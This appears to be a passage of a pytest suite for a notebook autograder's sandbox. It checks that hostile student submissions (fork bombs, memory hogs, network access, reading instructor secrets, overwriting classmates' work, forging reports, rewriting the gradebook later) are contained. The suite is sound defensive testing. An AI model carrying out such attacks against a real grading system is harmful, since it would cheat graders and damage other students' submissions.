    assert "LEAK-FOUND" not in report["output_head"], report["output_head"][:2000]


@pytest.mark.slow
def test_attack_cannot_kill_classmates_or_graders(attack_batch):
    report = _assert_scored(attack_batch, "kills_classmates.ipynb")  # it keeps its own answers, nothing else
    assert "killed" in report["output_head"]
    assert len(attack_batch["reports"]) == len(attack_batch["expected"])


@pytest.mark.slow
def test_attack_cannot_overwrite_a_classmates_submission(attack_batch):
    report = _assert_scored(attack_batch, "overwrites_classmates.ipynb")
    assert "OVERWROTE" not in report["output_head"]
    assert attack_batch["after"] == attack_batch["before"]


@pytest.mark.slow
def test_attack_cannot_leave_a_process_that_rewrites_the_gradebook(attack_batch):
    _assert_scored(attack_batch, "rewrites_gradebook_later.ipynb")
    assert attack_batch["lingering"] == [], "a process of a submission outlived its grading"
    assert attack_batch["gradebook_later"] == attack_batch["gradebook_written"]
    good = json.loads((attack_batch["ctx"]["grades"] / "reports" / "good.json").read_text(encoding="utf-8"))
    assert good["total"] == good["max_total"]


@pytest.mark.slow
def test_attack_cannot_forge_the_graders_report(attack_batch):
    report = _assert_scored(attack_batch, "fake_report.ipynb")
    assert report["file"] == "fake_report.ipynb"
    rows = attack_batch["gradebook_written"].decode("utf-8").splitlines()
    assert len(rows) == 1 + len(attack_batch["expected"])
    assert sum(row.startswith("good.ipynb,") for row in rows) == 1 and "forged" not in rows[0] + "".join(rows)


@pytest.mark.slow
def test_attack_cannot_write_into_the_repository(attack_batch):
    report = _assert_scored(attack_batch, "writes_into_repo.ipynb")
    if not REPO.is_relative_to("/tmp"):  # a clone under /tmp: the sandbox's own private /tmp takes the writes
        assert f"WROTE {REPO}" not in report["output_head"], report["output_head"][:2000]
    assert not attack_batch["zip_changed"], "the autograder archive was modified"
    assert not any(attack_batch["planted"].values()), attack_batch["planted"]


@pytest.mark.slow
def test_attack_memory_is_limited(attack_batch):
    report = _assert_scored(attack_batch, "memory_hog.ipynb")
    assert any(c["status"] == "error" and "MemoryError" in c["error"] for c in report["cells"]), report["cells"]


@pytest.mark.slow
def test_attack_number_of_processes_is_limited(attack_batch):
    report = _assert_scored(attack_batch, "fork_bomb.ipynb")
    forked = int(re.search(r"FORKED (\d+)", report["output_head"]).group(1))
    assert forked < LIMITS.processes, forked


@pytest.mark.slow
def test_attack_has_no_network(attack_batch):
    report = _assert_scored(attack_batch, "network.ipynb")
    assert attack_batch["connections"] == []
    assert "NET-CONNECTED" not in report["output_head"] and "NET-RESOLVED" not in report["output_head"]
    assert "no connection to 127.0.0.1" in report["output_head"]


@pytest.mark.slow
def test_attack_cannot_read_instructor_environment_or_classmates_files(attack_batch):
    report = _assert_scored(attack_batch, "reads_environment.ipynb")
    for other in attack_batch["reports"].values():
        assert SECRET not in json.dumps(other), other["file"]
    assert "LEAK-" not in report["output_head"], report["output_head"][:2000]
    assert CLASSMATE not in report["output_head"]


@pytest.mark.slow
def test_attack_cannot_hang_the_batch_by_holding_the_output(attack_batch):
    report = _assert_scored(attack_batch, "hangs_output.ipynb")
    assert report["wall_s"] < 60, report["wall_s"]
    assert attack_batch["lingering"] == []


@pytest.mark.slow
def test_worker_death_during_a_test_is_in_the_error_column(attack_batch):
    report = _assert_scored(attack_batch, "dies_during_test.ipynb")
    assert any(e.startswith("test q1: the worker ended the worker process") and "restarted" in e
               for e in report["errors"]), report["errors"]
    row = next(r for r in attack_batch["gradebook_written"].decode().splitlines() if r.startswith("dies_during_test"))
    assert "test q1" in row


@pytest.mark.slow
def test_limits_are_cpu_time_so_a_slow_honest_submission_keeps_its_marks(attack_batch):
    slow = attack_batch["reports"]["honest_slow.ipynb"]
    assert slow["total"] == slow["max_total"] and not slow["errors"], slow["errors"]
    assert slow["wall_s"] > 1.5 * LIMITS.cell  # it waited longer than a cell's CPU-time limit
    spin = attack_batch["reports"]["endless_loop.ipynb"]
    assert any(f"used more than {LIMITS.cell:g} s of CPU time" in e for e in spin["errors"]), spin["errors"]


# fast checks of the trusted side ----------------------------------------------------------------------

def test_tampered_autograder_archive_is_refused(tmp_path):
    archive = tmp_path / "autograder.zip"
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as out:
        out.writestr("tests/q1.py", "from otter.test_files import test_case\nOK_FORMAT = False\nname = 'q1'\n")
    archive.write_bytes(data.getvalue())
    hw.autograder_hash_file(archive).write_text(hashlib.sha256(data.getvalue()).hexdigest() + "  autograder.zip\n")
    assert hw.load_autograder(archive, require_hash=True)["sha256"] == hashlib.sha256(data.getvalue()).hexdigest()
    archive.write_bytes(data.getvalue() + b"planted")
    with pytest.raises(ValueError, match="changed since it was generated"):
        hw.load_autograder(archive)
    hw.autograder_hash_file(archive).unlink()
    with pytest.raises(ValueError, match="no recorded hash"):
        hw.load_autograder(archive, require_hash=True)


def test_grading_refuses_without_a_sandbox_unless_told_it_is_unsafe(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(hw, "sandbox_status", lambda: (False, "no namespaces in this test"))
    autograder = {"tests": {"q1": "OK_FORMAT = False\nname = 'q1'\npoints = 1\n"}, "files": {}}
    with pytest.raises(hw.SandboxUnavailable, match="--unsafe-no-sandbox"):
        hw.grade_batch({"a.ipynb": b"{}"}, autograder)
    (tmp_path / "a.ipynb").write_text("{ not json")
    assert hw.main(["grade", FIRST, str(tmp_path)]) == 3
    assert "refusing to grade" in capsys.readouterr().err
    reports = hw.grade_batch({"a.ipynb": b"{ not json"}, autograder, unsafe_no_sandbox=True)
    assert reports[0]["sandbox"] == "none (unsafe)" and "could not be read" in reports[0]["errors"][0]


def test_trusted_side_environment_and_imports():
    assert set(hw._trusted_env()) <= set(hw.TRUSTED_ENV_KEYS) | set(hw.COMMON_ENV)
    worker_env = hw._worker_env(sandboxed=True, home=hw.SANDBOX_HOME)
    assert "HW_INSTRUCTOR_TOKEN" not in worker_env and worker_env["HOME"] == hw.SANDBOX_HOME
    sources = ["def test_a(f):\n    import numpy as np\n    from sklearn.naive_bayes import GaussianNB\n"]
    assert hw._test_dependencies(sources) == ["numpy", "sklearn.naive_bayes"]
    with pytest.raises(ValueError, match="wall_factor"):
        hw.Limits(wall_factor=0.5)
    with pytest.raises(ValueError, match="processes"):
        hw.Limits(processes=2)
